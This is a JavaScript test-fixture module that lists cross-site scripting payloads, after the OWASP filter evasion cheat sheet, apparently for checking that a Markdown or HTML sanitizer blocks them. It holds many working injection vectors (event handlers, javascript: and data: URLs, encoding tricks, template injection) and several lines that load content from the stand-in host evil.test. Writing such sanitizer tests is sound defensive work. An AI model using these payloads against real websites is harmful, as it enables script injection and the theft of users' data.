// Ways in which a text that somebody sends in could run a script, after the families of the OWASP XSS filter evasion
// cheat sheet: each would call run(), or fetch from the host evil.test, if it got through.

const RUN = 'window.__xss=1';

/** HTML, bare or breaking out of what stands around it. */
export const HTML = [
    `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script\x20type="text/javascript">${RUN}</script>`, `<script/x>${RUN}</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<<script>${RUN}//<</script>`, `<script src=//evil.test/x.js></script>`, `<script src=//evil.test/x.js?<b>`,
    `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}">`, `<img/src=x/onerror=${RUN}>`, `<img src=x:alert(alt) onerror=${RUN} alt=1>`,
    `<img """><script>${RUN}</script>">`, `<IMG SRC=javascript:${RUN}>`, `<img src=\`javascript:${RUN}\`>`, `<img src=//evil.test/pixel.png>`,
    `<img dynsrc="javascript:${RUN}">`, `<img lowsrc="javascript:${RUN}">`, `<img srcset="//evil.test/p.png 2x">`, `<img src=x onerror\x0b=${RUN}>`,
    `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${RUN}>#x">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<math href="javascript:${RUN}">x</math>`,
    `<body onload=${RUN}>`, `<body background="//evil.test/b.png">`, `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
    `<iframe src=//evil.test/f></iframe>`, `<frameset><frame src="javascript:${RUN}"></frameset>`, `<object data="javascript:${RUN}"></object>`,
    `<object type="text/html" data="data:text/html,<script>parent.__xss=1</script>"></object>`, `<embed src="javascript:${RUN}">`, `<embed src="data:image/svg+xml,<svg onload=${RUN}>">`,
    `<link rel=stylesheet href=//evil.test/x.css>`, `<link rel=prefetch href=//evil.test/p>`, `<style>@import'//evil.test/x.css';</style>`,
    `<style>body{background:url(//evil.test/b)}</style>`, `<div style="background:url(//evil.test/c)">x</div>`, `<div style="width:expression(${RUN})">x</div>`,
    `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`, `<meta http-equiv="refresh" content="0;url=//evil.test/">`, `<base href="//evil.test/">`,
    `<form action="javascript:${RUN}"><button autofocus>x</button></form>`, `<button formaction="javascript:${RUN}">x</button>`, `<isindex action=javascript:${RUN} type=image>`,
    `<input onfocus=${RUN} autofocus>`, `<select onfocus=${RUN} autofocus>`, `<textarea onfocus=${RUN} autofocus>`, `<keygen onfocus=${RUN} autofocus>`,
    `<details open ontoggle=${RUN}>x</details>`, `<marquee onstart=${RUN}>x</marquee>`, `<video onerror=${RUN}><source></video>`, `<video src=x onerror=${RUN}>`,
    `<audio src=x onerror=${RUN}>`, `<video poster=//evil.test/p.png>`, `<source srcset=//evil.test/s>`, `<track src=//evil.test/t>`,
    `<p onmouseover=${RUN}>x</p>`, `<xss id=x tabindex=1 onfocus=${RUN}>x</xss>`, `<a href="javascript:${RUN}">x</a>`, `<a href="&#106;avascript:${RUN}">x</a>`,
    `<a href="java&#x09;script:${RUN}">x</a>`, `<a href=" &#14; javascript:${RUN}">x</a>`, `<a href="data:text/html,<script>opener.__xss=1</script>">x</a>`,
    `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<title></title><script>${RUN}</script>`,
    `<textarea></textarea><script>${RUN}</script></textarea>`, `<!--><script>${RUN}</script>-->`, `<![CDATA[<script>${RUN}</script>]]>`, `<?xml version="1.0"?><script>${RUN}</script>`,
    `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `</title><script>${RUN}</script>`,
    `</script><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `]]></content><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
    `" onmouseover="${RUN}" autofocus onfocus="${RUN}`, `' onfocus='${RUN}' autofocus='`, `\`onfocus=${RUN} autofocus=\``, `"-${RUN}-"`, `';${RUN};//`, `\\";${RUN};//`,
    `\${${RUN}}`, `{{constructor.constructor('${RUN}')()}}`, `{% raw %}<script>${RUN}</script>{% endraw %}`, `{{ "<script>${RUN}</script>"|safe }}`,
    `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `%3Cscript%3E${RUN}%3C/script%3E`,
    `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\u2028${RUN}\u2029`, `<a\u00a0href="javascript:${RUN}">x</a>`,
];

/** Destinations of links and pictures. */
export const DESTINATIONS = [
    `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `javascript&#58;${RUN}`, `java&Tab;script:${RUN}`, `java&NewLine;script:${RUN}`, `&#x6A&#x61&#x76&#x61script:${RUN}`,
    `javascript://evil.test/%0a${RUN}`, `vbscript:msgbox(1)`, `data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX194c3M9MTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,<svg/onload=${RUN}>`, `feed:javascript:${RUN}`, `view-source:javascript:${RUN}`, `jar:javascript:${RUN}`, `blob:javascript:${RUN}`,
    `\u0001javascript:${RUN}`, `javascript\u200b:${RUN}`, `%6Aavascript:${RUN}`, `//evil.test/x`, `\\\\evil.test\\x`, `/\\evil.test/x`,
    `https:evil.test`, `http://a"onfocus="${RUN}"autofocus="`, `x"onerror="${RUN}`, `x'onerror='${RUN}`,
];

/** Parts of a page's Markdown, each with the vector in another place. @param {string} vector @returns {string[]} */
export function in_markdown(vector) {
    const inline = vector.replace(/\n/g, ' ');
    const cell = inline.replace(/\|/g, '\\|');
    return [
        inline, `**${inline}**`, `## ${inline}`, `- ${inline}`, `> ${inline}`, `> [!NOTE]\n> ${inline}`, `| a | ${cell} |\n|---|---|\n| ${cell} | b |`,
        `[${inline}](https://example.org/)`, `![${inline}](x.png)`, `[a](https://example.org/ "${inline}")`, `[a](https://example.org/ '${inline}')`,
        `![a](x.png "${inline}")`, `\`${inline}\``, `\`\`\`${inline}\ncode\n\`\`\``, `\`\`\`js\n${inline}\n\`\`\``, `    ${inline}`, `[^1] a\n\n[^1]: ${inline}`,
        `<${inline}>`, `# a {#a .b}`, `<div>\n${inline}\n</div>`, `<b title="${inline}">a</b>`,
    ];
}

/** The same for destinations. @param {string} destination @returns {string[]} */
export function in_links(destination) {
    return [`[a](<${destination.replace(/[<>]/g, '\\$&')}>)`, `[a](${destination})`, `[a][r]\n\n[r]: ${destination}`, `![a](${destination})`, `<${destination}>`,
        `<a href="${destination}">a</a>`, `<img src="${destination}">`, `<area href="${destination}">`];
}
